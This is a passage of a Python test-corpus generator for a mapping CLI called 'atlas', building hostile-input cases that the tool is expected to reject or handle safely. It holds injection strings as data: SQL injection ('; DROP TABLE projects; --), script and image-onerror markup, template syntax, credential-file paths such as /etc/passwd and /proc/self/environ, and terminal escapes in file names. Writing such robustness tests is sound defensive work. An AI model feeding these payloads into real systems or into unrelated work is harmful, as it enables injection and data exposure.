    add("dmg-zip-bad-signature-only", "f.xlsx", b"PK\x03\x04" + b"\x00" * 100)
    for ext in ("csv", "xlsx", "xls", "ods", "txt"):
        add(f"dmg-empty-{ext}", f"f.{ext}", b"")
    add("dmg-whitespace-only", "f.csv", " \n\t\r\n   \n")
    add("dmg-folder-csv", "x.csv", Folder(), note="a folder named x.csv")
    add("dmg-folder-xlsx", "x.xlsx", Folder())
    add("dmg-symlink-loop", "loop.csv", Symlink("loop.csv"))
    add("dmg-dangling-symlink", "dangling.csv", Symlink("nowhere.csv"))
    add("dmg-pdf-named-csv", "f.csv", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n")
    add("dmg-elf-named-xlsx", "f.xlsx", b"\x7fELF\x02\x01\x01" + b"\x00" * 100)
    add("dmg-html-named-csv", "f.csv", "<html><body><script>alert(1)</script><table><tr><td>Toulouse</td></tr></table>"
                                       "</body></html>\n")
    add("dmg-json-named-csv", "f.csv", json.dumps([{"Collectivité": "Toulouse", "Pays": "Sénégal"}]))
    return cs


def _paths() -> list[Case]:
    g, cat = "paths", "path"
    cs: list[Case] = []
    good = table([row("path-good")])

    def add(cid: str, argv: list[str], expect: str, files: dict[str, Content] | None = None, note: str = "",
            output: str | None = None, group: str = g) -> None:
        cs.append(Case(cid, cat, argv, expect, dict(files or {}), group=group, note=note, output=output))

    add("path-5000-char-component", ["import", "{dir}/" + "a" * 5000 + ".csv", "--db", "{db}"], "rejected")
    add("path-5000-char-nested", ["import", "{dir}/" + "abcdefghi/" * 500 + "x.csv", "--db", "{db}"], "rejected")
    add("path-missing", ["import", "{dir}/nope.csv", "--db", "{db}"], "rejected")
    add("path-empty-string", ["import", "", "--db", "{db}"], "rejected")
    add("path-etc-passwd", ["import", "/etc/passwd", "--db", "{db}"], "rejected")
    add("path-proc-self-environ", ["import", "/proc/self/environ", "--db", "{db}"], "rejected")
    add("path-dev-null", ["import", "/dev/null", "--db", "{db}"], "rejected")
    add("path-newline-in-name", ["import", "{dir}/bad\nname.csv", "--db", "{db}"], "rejected", {"bad\nname.csv": b""},
        note="an empty file whose name holds a line break: the message stays one line")
    add("path-cr-in-name", ["import", "{dir}/bad\rTraceback.csv", "--db", "{db}"], "rejected",
        {"bad\rTraceback.csv": b""})
    add("path-ansi-in-name", ["import", "{dir}/\x1b[2J\x1b[31mred.csv", "--db", "{db}"], "rejected",
        {"\x1b[2J\x1b[31mred.csv": b""}, note="terminal escapes in a file name are not sent to the terminal")
    cs[-1].forbidden = ("\x1b",)
    add("path-dash-file", ["import", "-", "--db", "{db}"], "rejected", note="'-' (stdin) is not a file")
    # terminal escapes from file names and option values never reach the terminal raw
    esc = "\x1b[2J\x1b[31m"
    for cid, argv, expect, files in (
            ("ansi-file-name-imported", ["import", "{dir}/" + esc + "ok.csv", "--db", "{db}"], "imported",
             {esc + "ok.csv": table([row("ansi-file-name-imported", partner="Thiès")])}),
            ("ansi-sheet-option", ["import", "{dir}/good.csv", "--db", "{db}", "--sheet", esc], "rejected",
             {"good.csv": good}),
            ("ansi-missing-db", ["stats", "--db", "{dir}/" + esc + ".duckdb"], "rejected", {}),
            ("ansi-map-country", ["map", "--db", "{db}", "--country", esc, "-o", "{dir}/m.html"], "rejected", {}),
            ("ansi-undo", ["undo", esc, "--db", "{db}"], "rejected", {}),
            ("ansi-review-pick", ["review", "--db", "{db}", "pick", esc, "1"], "rejected", {}),
            ("ansi-missing-output-folder", ["export", "--db", "{db}", "-o", "{dir}/" + esc + "/e.csv"], "clean", {})):
        cs.append(Case(cid, cat, argv, expect, dict(files), group=g, forbidden=("\x1b",),
                       followups=[Followup(["batches", "--db", "{db}"])] if expect == "imported" else [],
                       note="terminal escape sequences in a name are shown escaped, never sent raw"))
    # outputs aimed at the database or at the input: refused, nothing overwritten
    add("out-export-onto-database", ["export", "--db", "{db}", "--format", "csv", "-o", "{db}"], "rejected",
        note="an export over the database file itself (the format forced to CSV)", group="onto")
    add("out-map-onto-database", ["map", "--db", "{db}", "-o", "{db}"], "rejected", group="onto")
    add("out-template-onto-database", ["template", "-o", "{db}"], "rejected", group="onto")
    add("report-onto-database", ["import", "{dir}/good.csv", "--db", "{db}", "--report", "{db}"], "rejected",
        {"good.csv": table([row("report-onto-database")])}, group="onto")
    add("report-onto-input", ["import", "{dir}/good.csv", "--db", "{db}", "--report", "{dir}/good.csv"], "rejected",
        {"good.csv": table([row("report-onto-input")])}, group="onto")
    add("path-import-the-database", ["import", "{db}", "--db", "{db}"], "rejected",
        note="the database file given as the file to import", group="onto")
    # --db pointing to things that are not an atlas database
    dbs: dict[str, tuple[str, Content | None]] = {
        "csv": ("{dir}/db.csv", good), "empty": ("{dir}/empty.duckdb", b""), "folder": ("{dir}/dbdir", Folder()),
        "missing": ("{dir}/missing.duckdb", None), "truncated": ("{dir}/trunc.duckdb", None),
        # (not /dev/null: a writer would leave /dev/null.lock behind when run as root)
        "loop": ("{dir}/loop.duckdb", Symlink("loop.duckdb")), "proc": ("/proc/version", None),
        "random": ("{dir}/random.duckdb", None),
    }
    random_bytes = bytes((i * 7919 + 13) % 251 for i in range(1 << 16))
    commands = {
        "import": (["import", "{dir}/good.csv"], ("csv", "empty", "folder", "missing", "truncated", "loop", "proc",
                                                  "random")),
        "stats": (["stats"], ("csv", "empty", "folder", "missing", "truncated", "random", "loop")),
        "map": (["map", "-o", "{dir}/m.html"], ("csv", "empty", "missing", "truncated")),
        "export": (["export", "-o", "{dir}/e.csv"], ("csv", "folder", "missing")),
        "batches": (["batches"], ("empty", "truncated", "missing")),
        "review": (["review", "--list"], ("csv", "missing")),
        "undo": (["undo", "imp-x"], ("empty", "missing")),
    }
    for cmd, (argv, kinds) in commands.items():
        for kind in kinds:
            path, content = dbs[kind]
            files: dict[str, Content] = {"good.csv": good}
            if content is not None:
                files[path.removeprefix("{dir}/")] = content
            if kind == "truncated":
                files["trunc.duckdb"] = DbPrefix(1 << 20)
            if kind == "random":
                files["random.duckdb"] = random_bytes
            add(f"db-{kind}-{cmd}", argv + ["--db", path], "rejected", files,
                note=f"--db {kind} for `atlas {cmd}`: refused, the file left as it was (and not created)")
    # outputs
    add("out-map-empty", ["map", "--db", "{db}", "-o", ""], "rejected")
    add("out-map-dash", ["map", "--db", "{db}", "-o", "-"], "clean")
    add("out-map-proc-version", ["map", "--db", "{db}", "-o", "/proc/version"], "rejected")
    add("out-map-proc-html", ["map", "--db", "{db}", "-o", "/proc/x.html"], "rejected")
    add("out-map-missing-folder", ["map", "--db", "{db}", "-o", "{dir}/missing/sub/m.html"], "clean")
    add("out-map-is-folder", ["map", "--db", "{db}", "-o", "{dir}/sub.html"], "rejected", {"sub.html": Folder()})
    add("out-map-unknown-ext", ["map", "--db", "{db}", "-o", "{dir}/m.exe"], "rejected")
    add("out-map-dev-full", ["map", "--db", "{db}", "-o", "/dev/full"], "rejected")
    add("out-map-long-name", ["map", "--db", "{db}", "-o", "{dir}/" + "m" * 300 + ".html"], "rejected")
    add("out-export-empty", ["export", "--db", "{db}", "-o", ""], "rejected")
    add("out-export-dash", ["export", "--db", "{db}", "-o", "-"], "clean")
    add("out-export-proc-version", ["export", "--db", "{db}", "-o", "/proc/version"], "rejected")
    add("out-export-missing-folder", ["export", "--db", "{db}", "-o", "{dir}/missing/sub/e.csv"], "clean")
    add("out-export-unknown-ext", ["export", "--db", "{db}", "-o", "{dir}/e.exe"], "rejected")
    add("out-template-empty", ["template", "-o", ""], "rejected")
    add("out-template-proc-version", ["template", "-o", "/proc/version"], "rejected")
    add("out-template-proc-csv", ["template", "-o", "/proc/t.csv"], "rejected")
    add("out-template-missing-folder", ["template", "-o", "{dir}/missing/sub/t.xlsx"], "clean")
    add("out-template-dash", ["template", "-o", "-"], "ok")
    add("out-template-pdf", ["template", "-o", "{dir}/t.pdf"], "rejected")
    add("out-template-is-folder", ["template", "-o", "{dir}/t.xlsx"], "rejected", {"t.xlsx": Folder()})
    for k, target, files in (("missing-folder", "{dir}/missing/sub/r.json", {}), ("empty", "", {}),
                             ("proc-version", "/proc/version", {}), ("is-folder", "{dir}/r.json", {"r.json": Folder()}),
                             ("dev-full", "/dev/full", {})):
        add(f"report-{k}", ["import", "{dir}/good.csv", "--db", "{db}", "--report", target], "clean",
            {"good.csv": table([row(f"report-{k}")]), **files},
            note="--report where it cannot be written: refused before anything is imported, or written")
    return cs


def _cli() -> list[Case]:
    g, cat = "cli", "cli"
    cs: list[Case] = []
    good = table([row("cli-good")])

    def add(cid: str, argv: list[str], expect: str, files: dict[str, Content] | None = None, note: str = "",
            output: str | None = None) -> None:
        cs.append(Case(cid, cat, argv, expect, dict(files or {}), group=g, note=note, output=output))

    for v, expect in (("nan", "rejected"), ("inf", "rejected"), ("-inf", "rejected"), ("-1", "rejected"),
                      ("abc", "usage"), ("0", "rejected"), ("1e400", "rejected"), ("", "usage"),
                      ("1e-300", "rejected")):
        add(f"cli-max-mb-{v or 'empty'}", ["import", "{dir}/f.csv", "--db", "{db}", "--max-mb", v], expect,
            {"f.csv": table([row(f"cli-max-mb-{v}")])})
    add("cli-no-command", [], "usage")
    add("cli-unknown-command", ["bogus"], "usage")
    add("cli-unknown-option", ["import", "{dir}/f.csv", "--db", "{db}", "--bogus"], "usage", {"f.csv": good})
    add("cli-import-no-file", ["import", "--db", "{db}"], "usage")
    add("cli-import-bad-format", ["import", "{dir}/f.csv", "--db", "{db}", "--format", "excel"], "usage",
        {"f.csv": good})
    add("cli-version", ["--version"], "clean")
    add("cli-stats-limit-abc", ["stats", "--db", "{db}", "--limit", "abc"], "usage")
    add("cli-stats-limit-negative", ["stats", "--db", "{db}", "--limit", "-1"], "clean")
    add("cli-stats-json", ["stats", "--db", "{db}", "--json"], "ok")
    add("cli-init-seed-abc", ["init", "--db", "{dir}/new.duckdb", "--seed", "abc"], "usage")
    add("cli-serve-port-abc", ["serve", "--db", "{db}", "--port", "abc"], "usage")
    add("cli-sheet-missing", ["import", "{dir}/f.xlsx", "--db", "{db}", "--sheet", "Nope"], "refused",
        {"f.xlsx": lambda: xlsx(xlsx_rows("cli-sheet-missing"))})
    add("cli-sheet-on-csv", ["import", "{dir}/f.csv", "--db", "{db}", "--sheet", "Nope"], "clean",
        {"f.csv": table([row("cli-sheet-on-csv")])})
    add("cli-strict-refused", ["import", "{dir}/f.csv", "--db", "{db}", "--strict"], "refused",
        {"f.csv": table([row("cli-strict", year="99999")])})
    add("cli-kind-empty", ["import", "{dir}/f.csv", "--db", "{db}", "--kind", ""], "clean",
        {"f.csv": table([row("cli-kind-empty")])})
    add("cli-format-directory-on-xlsx", ["import", "{dir}/f.xlsx", "--db", "{db}", "--format", "directory"], "refused",
        {"f.xlsx": lambda: xlsx(xlsx_rows("cli-format-dir"))})
    add("cli-format-pairs-on-projects", ["import", "{dir}/f.csv", "--db", "{db}", "--format", "pairs"], "refused",
        {"f.csv": good})
    # mapping files
    mappings: dict[str, tuple[str, str, str]] = {
        "missing": ("nope.toml", "", "refused"),
        "folder": ("m.toml", "FOLDER", "refused"),
        "binary": ("m.toml", "\x00\x01\x02PNG", "refused"),
        "unknown-field": ("m.toml", '[columns]\n"Pays" = "__class__"\n', "refused"),
        "bad-toml": ("m.toml", "columns = [", "refused"),
        "deep-toml": ("m.toml", "x = " + "[" * 100_000 + "]" * 100_000 + "\n", "refused"),
        "header-row-negative": ("m.toml", "header_row = -1\n", "rejected"),
        "header-row-huge": ("m.toml", "header_row = 99999999999999999999\n", "rejected"),
        "header-row-float": ("m.toml", "header_row = 1.5\n", "rejected"),
        "delimiter-double": ("m.toml", 'delimiter = ";;"\n', "rejected"),
        "encoding-rot13": ("m.toml", 'encoding = "rot13"\n', "rejected"),
        "sheet-int": ("m.toml", "sheet = 5\n", "clean"),
        "format-evil": ("m.toml", 'format = "{{7*7}}"\n', "refused"),
        "columns-list": ("m.json", '{"columns": ["a", "b"]}', "refused"),
        "json-not-object": ("m.json", "[1, 2, 3]", "refused"),
        "json-deep": ("m.json", "[" * 100_000 + "]" * 100_000, "refused"),
        "kind-evil": ("m.toml", 'kind = "<script>alert(1)</script>"\n', "refused"),
    }
    for k, (name, text, expect) in mappings.items():
        files: dict[str, Content] = {"f.csv": table([row(f"cli-mapping-{k}")])}
        if k == "folder":
            files[name] = Folder()
        elif k != "missing":
            files[name] = text
        add(f"cli-mapping-{k}", ["import", "{dir}/f.csv", "--db", "{db}", "--mapping", "{dir}/" + name],
            "rejected" if expect == "refused" else expect, files)
    # filters of map and export
    for option, value, expect in (
            ("--country", "ZZ", "refused"), ("--country", "S N", "refused"), ("--country", "{{7*7}}", "refused"),
            ("--country", "SN' OR '1'='1", "refused"), ("--country", ",", "clean"),
            ("--theme", "zzz", "refused"), ("--theme", "<script>", "refused"),
            ("--sdg", "18", "refused"), ("--sdg", "0", "refused"), ("--sdg", "-1", "refused"),
            ("--sdg", "abc", "refused"), ("--sdg", "6.5", "refused"), ("--sdg", "1e400", "refused"),
            ("--sdg", "9" * 5000, "refused"),
            ("--years", "2020-2010", "refused"), ("--years", "abc", "refused"), ("--years", "99999", "refused"),
            ("--years", "-2000", "rejected"), ("--years", "2015.5", "refused"), ("--years", "0000-9999", "clean"),
            ("--level", "galaxy", "refused"), ("--region", "999", "refused"), ("--departement", "ZZ", "refused"),
            ("--authority", "x' OR 1=1 --", "refused"), ("--kind", "nope", "refused"), ("--funding", "nope", "refused"),
            ("--status", "nope", "refused"), ("--zone", "Atlantide", "refused"),
            ("--max-flows", "-5", "rejected"), ("--max-flows", "0", "clean"), ("--max-flows", "abc", "usage"),
            ("--max-flows", "9" * 30, "clean"), ("--lang", "xx", "usage"), ("--layout", "4:3", "usage")):
        slug = "".join(ch if ch.isalnum() else "-" for ch in value)[:20].strip("-") or "punct"
        add(f"cli-map{option}-{slug}", ["map", "--db", "{db}", option, value, "-o", "{dir}/m.html"],
            "rejected" if expect == "refused" else expect)
    add("cli-map-each-file", ["map", "--db", "{db}", "--each", "region", "-o", "{dir}/m.pdf"], "rejected")
    add("cli-map-format-gif", ["map", "--db", "{db}", "--each", "region", "--format", "gif", "-o", "{dir}/maps"], "usage")
    add("cli-export-country-zz", ["export", "--db", "{db}", "--country", "ZZ", "-o", "{dir}/e.csv"], "rejected")
    add("cli-export-format-bad", ["export", "--db", "{db}", "--format", "exe", "-o", "{dir}/e.csv"], "usage")
    add("cli-export-years-reversed", ["export", "--db", "{db}", "--years", "2020-2010", "-o", "{dir}/e.csv"], "rejected")
    add("cli-undo-sql", ["undo", "'; DROP TABLE projects; --", "--db", "{db}"], "rejected")
    add("cli-undo-script", ["undo", "<script>alert(1)</script>", "--db", "{db}"], "rejected")
    add("cli-undo-empty", ["undo", "", "--db", "{db}"], "rejected")
    add("cli-undo-wildcard", ["undo", "%", "--db", "{db}"], "rejected")
    return cs


def _review() -> list[Case]:
    g, cat = "review", "review"
    cs: list[Case] = []

    def add(cid: str, argv: list[str], expect: str, note: str = "") -> None:
        # option values: refused as an atlas error (1) or a usage error (2)
        cs.append(Case(cid, cat, argv, "rejected" if expect == "refused" else expect, group=g, note=note))

    add("review-pick-empty-prefix", ["review", "--db", "{db}", "pick", "", "1"], "refused",
        note="an empty item prefix must not select the only item")
    add("review-pick-space-prefix", ["review", "--db", "{db}", "pick", " ", "1"], "refused")
    add("review-pick-sql", ["review", "--db", "{db}", "pick", "' OR 1=1 --", "1"], "refused")
    add("review-pick-wildcard", ["review", "--db", "{db}", "pick", "%", "1"], "refused")
    add("review-pick-number-999", ["review", "--db", "{db}", "pick", "{item}", "999"], "refused")
    add("review-pick-number-0", ["review", "--db", "{db}", "pick", "{item}", "0"], "refused")
    add("review-pick-evil-id", ["review", "--db", "{db}", "pick", "{item}", "{{7*7}}"], "refused")
    add("review-place-lat-91", ["review", "--db", "{db}", "place", "{item}", "91", "200"], "refused")
    add("review-place-nan", ["review", "--db", "{db}", "place", "{item}", "nan", "nan"], "refused")
    add("review-place-inf", ["review", "--db", "{db}", "place", "{item}", "inf", "-inf"], "refused")
    add("review-place-evil-name", ["review", "--db", "{db}", "place", "{item}", "14.69", "-17.44", "--name",
                                   "<script>alert(1)</script>", "--country", "ZZ"], "refused")
    add("review-place-lat-abc", ["review", "--db", "{db}", "place", "{item}", "abc", "0"], "usage")
    add("review-list", ["review", "--db", "{db}", "--list"], "ok")
    cs[-1].followups = [Followup(["review", "--db", "{db}", "--json"], literal="Zork{{7*7}}Zork")]
    return cs


def _review_names() -> list[Case]:
    """Names typed into `atlas review place --name` go into the atlas like imported ones."""
    g, cat = "review2", "review"
    tokyo = ["35.6895", "139.6917"]
    return [
        Case("review-place-name-rce", cat, ["review", "--db", "{db}", "place", "{item}", *tokyo, "--name", RCE_ID,
                                            "--country", "JP"], "clean", group=g, writes_db=True, literal=RCE_ID,
             country="JP", note="a decision naming the partner with template syntax: stored and drawn literally"),
        Case("review-place-name-script", cat, ["review", "--db", "{db}", "place", "{item}", *tokyo, "--name",
                                               "<img src=x onerror=alert(1)>Zork", "--country", "JP"], "clean",
             group=g, writes_db=True, literal="<img src=x onerror=alert(1)>Zork", literal_required=False,
             country="JP", note="markup as a decided name: refused, or stored and shown escaped"),
    ]


def _processes() -> list[Case]:
    cat = "process"
    cs = [
        Case("env-seed-abc-help", cat, ["--help"], "clean", mode="fresh", env={"ATLAS_SEED": "abc"}, group="procs",
             note="ATLAS_SEED=abc atlas --help"),
        Case("env-seed-abc-stats", cat, ["stats", "--db", "{db}"], "clean", mode="fork", env={"ATLAS_SEED": "abc"},
             group="procs"),
        Case("env-db-missing", cat, ["stats"], "refused", mode="fork", env={"ATLAS_DB": "{dir}/none.duckdb"},
             group="procs"),
        Case("env-max-arcs-abc", cat, ["map", "--db", "{db}", "-o", "{dir}/m.html"], "clean", mode="fork",
             env={"ATLAS_MAX_ARCS": "abc"}, group="procs"),
        Case("env-lang-evil", cat, ["map", "--db", "{db}", "-o", "{dir}/m.html"], "clean", mode="fork",
             env={"ATLAS_LANG": "{{7*7}}"}, group="procs"),
        Case("env-reference-dir-missing", cat, ["stats", "--db", "{db}"], "clean", mode="fork",
             env={"ATLAS_REFERENCE_DIR": "{dir}/none"}, group="procs"),
        Case("non-utf8-file-imported", cat, imp("\udcff\udcfe.csv"), "clean",
             {"\udcff\udcfe.csv": table([row("non-utf8-file-imported", partner="Thiès")])}, mode="fork", group="procs",
             note="a file name that is not UTF-8 (bytes ff fe): imported and named escaped, or refused"),
        Case("non-utf8-file-empty", cat, imp("\udcffempty.csv"), "rejected", {"\udcffempty.csv": b""}, mode="fork",
             group="procs"),
        Case("non-utf8-map-output", cat, ["map", "--db", "{db}", "-o", "{dir}/\udcffm.html"], "clean", mode="fork",
             group="procs", note="the path written is printed on stdout: not UTF-8"),
        Case("non-utf8-export-output", cat, ["export", "--db", "{db}", "-o", "{dir}/\udcffe.csv"], "clean",
             mode="fork", group="procs"),
        Case("non-utf8-report", cat, imp("f.csv", "--report", "{dir}/\udcffr.json"), "clean",
             {"f.csv": table([row("non-utf8-report", partner="Thiès")])}, mode="fork", group="procs"),
        Case("env-pythonioencoding-ascii", cat, ["stats", "--db", "{db}"], "clean", mode="fresh", group="procs",
             env={"PYTHONIOENCODING": "ascii"}, note="an ASCII-only stdout: accented names must not crash"),
        Case("pipe-stats-json-head", cat, ["stats", "--db", "{db}", "--json"], "pipe", mode="pipe", group="procs",
             note="atlas stats --json | head -c 10"),
        Case("pipe-stats-closed", cat, ["stats", "--db", "{db}", "--json"], "pipe", mode="pipe", group="procs",
             note="stdout closed before atlas writes (| head -c 0)"),
        Case("pipe-template-closed", cat, ["template", "-o", "-"], "pipe", mode="pipe", group="procs"),
        Case("signal-sigint-import", cat, imp("big.csv", "--quiet"), "interrupted", {"big.csv": BigImport()}, mode="signal",
             signal=2, group="signal", note="Ctrl-C during an import: one line, nothing changed"),
        Case("signal-sigterm-import", cat, imp("big.csv", "--quiet"), "interrupted", {"big.csv": BigImport()},
             mode="signal", signal=15, group="signal", note="SIGTERM during an import: nothing changed"),
    ]
    return cs


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    if len(args) != 1:
        print("usage: python tests/hostile/corpus.py OUT", file=sys.stderr)
        return 2
    out = Path(args[0])
    for c in cases():
        if c.needs_database():
            continue  # built from the test database at run time
        c.write(out / c.id)
        print(f"{c.id:45} {c.category:9} {c.mode:7} {c.expect:11} {c.note}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
